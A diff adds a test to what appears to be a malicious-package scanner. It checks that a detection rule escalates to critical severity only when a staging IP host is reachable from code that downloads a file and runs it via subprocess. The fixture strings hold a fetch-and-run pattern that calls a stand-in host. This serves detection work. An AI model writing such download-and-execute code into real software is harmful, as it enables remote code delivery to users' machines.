@@ -188,3 +188,29 @@ def test_foreign_prototypes_and_flag_names_hide_nothing() -> None:
     )
     result = _scan({"setup.py": "", "shapes/__init__.py": repo, "shapes/win32.py": win32})
     assert not [f for f in result.findings if f.rule == "CW110"]
+
+
+def test_a_staging_host_counts_only_for_the_code_that_can_fetch_it() -> None:
+    # a raw IP in one function of a long module says nothing of what another function fetches
+    # before it runs a named tool; the same host in another method of the class does
+    fetch_and_run = (
+        "    def clip(self, link, name):\n"
+        "        with urllib.request.urlopen(link) as r, open(name, 'wb') as out:\n"
+        "            out.write(r.read())\n"
+        "        subprocess.run([self.tool(), '-i', name], check=True)\n"
+    )
+    elsewhere = (
+        "import subprocess, urllib.request\n"
+        "def transcribe(data):\n"
+        "    return urllib.request.urlopen('http://203.0.113.7:8000/t', data=data).read()\n"
+        "class Media:\n" + fetch_and_run
+    )
+    in_class = elsewhere.replace("def transcribe(data):", "class Unrelated:\n  def transcribe(data):")
+    in_class += "    def tool(self):\n        return 'http://203.0.113.7:8000/tool'\n"
+
+    def cw103(source: str) -> list[Severity]:
+        result = _scan({"shapes/__init__.py": "", "shapes/media.py": source})
+        return [f.severity for f in result.findings if f.rule == "CW103"]
+
+    assert cw103(elsewhere) and max(cw103(elsewhere)) < Severity.CRITICAL
+    assert Severity.CRITICAL in cw103(in_class)
